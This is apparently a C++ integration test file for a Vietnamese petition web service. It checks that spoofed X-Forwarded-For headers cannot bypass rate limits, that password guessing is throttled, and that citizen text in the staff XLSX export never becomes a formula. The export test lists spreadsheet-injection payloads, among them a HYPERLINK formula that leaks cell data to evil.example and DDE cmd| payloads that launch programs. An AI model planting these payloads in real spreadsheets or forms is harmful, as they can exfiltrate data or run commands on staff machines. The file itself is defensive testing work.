// Abuse over HTTP (issue #9 §4, beside hostile_test.cc): spoofed forwarding
// headers against the public rate limit, password guessing against the login
// throttle, and spreadsheet formula injection through the XLSX export. Each
// attack must be refused (or, for the export, neutralised) without changing
// anything else, and the server must keep serving.
#include <gtest/gtest.h>
#include <zip.h>

#include <cstdint>
#include <cstdio>
#include <map>
#include <memory>
#include <nlohmann/json.hpp>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "integration/test_server.h"

namespace doithoai::testing {
namespace {

using nlohmann::json;

constexpr char kApi[] = "/api/v1/communes/hoang-truong";

// The entry `name` of the zip archive `data`, or nullopt.
std::optional<std::string> ZipEntry(const std::string& data, const std::string& name) {
  zip_error_t error;
  zip_error_init(&error);
  zip_source_t* source = zip_source_buffer_create(data.data(), data.size(), 0, &error);
  zip_t* archive = source == nullptr ? nullptr : zip_open_from_source(source, ZIP_RDONLY, &error);
  zip_error_fini(&error);
  if (archive == nullptr) {
    if (source != nullptr) zip_source_free(source);
    return std::nullopt;
  }
  std::optional<std::string> out;
  zip_stat_t stat;
  if (zip_stat(archive, name.c_str(), 0, &stat) == 0) {
    zip_file_t* file = zip_fopen(archive, name.c_str(), 0);
    if (file != nullptr) {
      std::string bytes(stat.size, '\0');
      if (zip_fread(file, bytes.data(), stat.size) == static_cast<zip_int64_t>(stat.size)) {
        out = std::move(bytes);
      }
      zip_fclose(file);
    }
  }
  zip_discard(archive);
  return out;
}

class HostileAbuseTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::make_unique<TempDir>();
    db_ = std::make_unique<TestDb>(*dir_);
    CommandResult init = RunDoithoai({"init", "--db", db_->spec(), "--demo"});
    ASSERT_EQ(init.exit_code, 0) << init.err;
  }

  void Start(const std::vector<std::string>& extra) {
    server_.reset();
    server_ = std::make_unique<ServerProcess>(db_->spec(), extra);
    ASSERT_GT(server_->port(), 0) << server_->Stderr();
  }

  int port() const { return server_->port(); }
  std::string db() const { return db_->spec(); }

  HttpReply Call(const std::string& method, const std::string& path,
                 const std::map<std::string, std::string>& headers, const std::string& body = "") {
    auto r = Request(port(), method, path, headers, body);
    EXPECT_TRUE(r.has_value()) << method << " " << path;
    return r.value_or(HttpReply{});
  }

  HttpReply Submit(int n, const std::map<std::string, std::string>& extra_headers) {
    std::map<std::string, std::string> headers = extra_headers;
    headers["Content-Type"] = "application/json";
    const json body = {{"name", "Người gửi " + std::to_string(n)},
                       {"phone", "0912200" + std::to_string(100 + n)},
                       {"village", "Thôn 6"},
                       {"address", "Xóm Mới"},
                       {"text", "Kiến nghị thử giới hạn số " + std::to_string(n)}};
    return Call("POST", std::string(kApi) + "/petitions", headers, body.dump());
  }

  HttpReply Login(const std::string& user, const std::string& password,
                  const std::map<std::string, std::string>& extra_headers = {}) {
    std::map<std::string, std::string> headers = extra_headers;
    headers["Content-Type"] = "application/json";
    return Call("POST", "/api/v1/session", headers,
                json({{"username", user}, {"password", password}}).dump());
  }

  void ExpectServing(const std::string& after) {
    auto r = Request(port(), "GET", "/healthz");
    ASSERT_TRUE(r.has_value()) << after;
    EXPECT_EQ(r->status, 200) << after;
    const std::string log = server_->Stderr();
    EXPECT_EQ(log.find("AddressSanitizer"), std::string::npos) << after << log.substr(0, 3000);
    EXPECT_EQ(log.find("runtime error:"), std::string::npos) << after << log.substr(0, 3000);
  }

  std::unique_ptr<TempDir> dir_;
  std::unique_ptr<TestDb> db_;
  std::unique_ptr<ServerProcess> server_;
};

// The limiter counts per calendar minute, so 2N + 1 posts (a few seconds)
// cross at most one minute boundary: at most 2N pass and at least one is
// refused, whatever the clock. Refusals store nothing.
struct Outcome {
  int accepted = 0;
  int refused = 0;
  int other = 0;
};

TEST_F(HostileAbuseTest, SpoofedForwardingHeadersDoNotEscapeThePublicRateLimit) {
  constexpr int kLimit = 2;
  constexpr int kPosts = 2 * kLimit + 1;
  Start({"--public-rate-limit", std::to_string(kLimit)});
  // No trusted proxy: each post claims another client address, in every
  // header a proxy might use.
  const int64_t before = CountRows(db(), "petitions");
  Outcome spoofed;
  for (int n = 0; n < kPosts; ++n) {
    const std::string ip = "203.0.113." + std::to_string(10 + n);
    HttpReply r = Submit(n, {{"X-Forwarded-For", ip},
                             {"X-Real-IP", ip},
                             {"Forwarded", "for=" + ip},
                             {"True-Client-IP", ip},
                             {"CF-Connecting-IP", ip}});
    (r.status == 201 ? spoofed.accepted : r.status == 429 ? spoofed.refused : spoofed.other)++;
  }
  EXPECT_LE(spoofed.accepted, 2 * kLimit);
  EXPECT_GE(spoofed.refused, 1) << "X-Forwarded-For giả đã vượt được giới hạn";
  EXPECT_EQ(spoofed.other, 0);
  EXPECT_EQ(CountRows(db(), "petitions"), before + spoofed.accepted);
  ExpectServing("giả X-Forwarded-For");

  // Behind a trusted proxy the limit keys on the address the proxy appended
  // (the last entry): what a client writes before it changes nothing.
  Start({"--public-rate-limit", std::to_string(kLimit), "--trusted-proxy", "127.0.0.1"});
  const int64_t middle = CountRows(db(), "petitions");
  Outcome chained;
  for (int n = 0; n < kPosts; ++n) {
    HttpReply r =
        Submit(100 + n, {{"X-Forwarded-For", "198.51.100." + std::to_string(n) + ", 192.0.2.77"}});
    (r.status == 201 ? chained.accepted : r.status == 429 ? chained.refused : chained.other)++;
  }
  EXPECT_LE(chained.accepted, 2 * kLimit);
  EXPECT_GE(chained.refused, 1) << "địa chỉ giả ở đầu X-Forwarded-For đã vượt giới hạn";
  EXPECT_EQ(chained.other, 0);
  // Real, different clients behind the proxy each get their own limit.
  Outcome distinct;
  for (int n = 0; n < kPosts; ++n) {
    HttpReply r = Submit(200 + n, {{"X-Forwarded-For", "192.0.2." + std::to_string(100 + n)}});
    (r.status == 201 ? distinct.accepted : distinct.other)++;
  }
  EXPECT_EQ(distinct.accepted, kPosts);
  EXPECT_EQ(CountRows(db(), "petitions"), middle + chained.accepted + distinct.accepted);
  ExpectServing("sau proxy tin cậy");
  std::printf("[hostile] giới hạn tần suất: giả %d nhận/%d từ chối; chuỗi %d/%d; thật %d\n",
              spoofed.accepted, spoofed.refused, chained.accepted, chained.refused,
              distinct.accepted);
}

// Password guessing: five wrong passwords lock the account for its window,
// even against the right password, and twenty from one address lock that
// address for every account; a spoofed X-Forwarded-For does not reset
// either. Each throttled answer is 429 with Retry-After.
TEST_F(HostileAbuseTest, PasswordGuessingIsThrottledPerAccountAndPerAddress) {
  Start({});
  const std::string hash_before =
      QueryValue(db(), "SELECT password_hash FROM accounts WHERE username = 'vanphong'")
          .value_or("?");
  int n = 0;
  for (int i = 0; i < 5; ++i, ++n) {
    HttpReply r = Login("vanphong", "doan-sai-" + std::to_string(i),
                        {{"X-Forwarded-For", "203.0.113." + std::to_string(i)}});
    EXPECT_EQ(r.status, 401) << i << ": " << r.body;
  }
  HttpReply locked = Login("vanphong", "doithoai-demo");
  ++n;
  EXPECT_EQ(locked.status, 429) << locked.body;
  EXPECT_FALSE(locked.Header("retry-after").empty());
  EXPECT_EQ(locked.body.find("\"token\""), std::string::npos);
  // Another account from the same address is not locked by vanphong's failures.
  HttpReply other = Login("quantri", "doithoai-demo");
  ++n;
  EXPECT_EQ(other.status, 200) << other.body;
  // Spraying one password over many names: the address locks after 20.
  int refused = 0;
  for (int i = 0; i < 20; ++i, ++n) {
    HttpReply r = Login("nguoi-la-" + std::to_string(i), "123456",
                        {{"X-Forwarded-For", "198.51.100." + std::to_string(i)}});
    EXPECT_TRUE(r.status == 401 || r.status == 429) << r.status;
    if (r.status == 429) ++refused;
  }
  EXPECT_GE(refused, 1) << "20 lần sai từ một địa chỉ mà không bị chặn";
  HttpReply address_locked = Login("quantri", "doithoai-demo");
  ++n;
  EXPECT_EQ(address_locked.status, 429) << address_locked.body;
  // Guessing changed nothing.
  EXPECT_EQ(QueryValue(db(), "SELECT password_hash FROM accounts WHERE username = 'vanphong'")
                .value_or("!"),
            hash_before);
  ExpectServing("đoán mật khẩu");
  std::printf("[hostile] đoán mật khẩu: %d lần thử\n", n);
}

// Spreadsheet formula injection: text a citizen typed that starts with =, +,
// -, @ or a tab must reach the staff's Excel as text, never as a formula.
TEST_F(HostileAbuseTest, ExportedSpreadsheetsNeverTurnCitizenTextIntoFormulas) {
  Start({"--public-rate-limit", "0"});
  const std::vector<std::pair<std::string, std::string>> payloads = {
      {"text", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")"},
      {"text", "=cmd|' /C calc'!A0"},
      {"text", "+1+1+cmd|' /C notepad'!A0"},
      {"text", "-2+3+cmd|' /C calc'!A0"},
      {"text", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"text", "\t=1+1"},
      {"name", "=Nguyễn Văn A"},
      {"address", "@Xóm Đông"},
  };
  int n = 0;
  for (const auto& [field, payload] : payloads) {
    json body = {{"name", "Lê Văn Kiểm"},
                 {"phone", "0912345678"},
                 {"village", "Thôn 6"},
                 {"address", "Xóm Đông"},
                 {"text", "Đề nghị sửa đường."}};
    body[field] = payload;
    HttpReply r = Call("POST", std::string(kApi) + "/petitions",
                       {{"Content-Type", "application/json"}}, body.dump());
    ASSERT_EQ(r.status, 201) << payload << ": " << r.body;
    ++n;
  }
  // The staff export, with a cookie session.
  const std::string cookie = FormLogin(port(), "vanphong", "doithoai-demo");
  ASSERT_FALSE(cookie.empty());
  HttpReply xlsx = Call("GET", "/quan-tri/hoang-truong/kien-nghi/xuat.xlsx",
                        {{"Cookie", "dt_session=" + cookie}});
  ASSERT_EQ(xlsx.status, 200) << xlsx.body.substr(0, 300);
  const std::optional<std::string> sheet = ZipEntry(xlsx.body, "xl/worksheets/sheet1.xml");
  ASSERT_TRUE(sheet.has_value()) << "không đọc được trang tính trong tệp xuất";
  const std::string strings = ZipEntry(xlsx.body, "xl/sharedStrings.xml").value_or("");
  // No cell of the export is a formula, and every exported payload is there
  // as text (the export has no address column).
  EXPECT_EQ(sheet->find("<f>"), std::string::npos) << sheet->substr(0, 2000);
  EXPECT_EQ(sheet->find("<f "), std::string::npos);
  const std::string all_text = *sheet + strings;
  for (const std::string& needle :
       {std::string("=HYPERLINK("), std::string("=cmd|"), std::string("+1+1+cmd|"),
        std::string("-2+3+cmd|"), std::string("@SUM(1+1)"), std::string("=Nguyễn Văn A")}) {
    EXPECT_NE(all_text.find(needle), std::string::npos) << "thiếu văn bản " << needle;
  }
  ExpectServing("công thức trong tệp xuất");
  std::printf("[hostile] chèn công thức vào tệp xuất: %d trường hợp\n", n);
}

}  // namespace
}  // namespace doithoai::testing
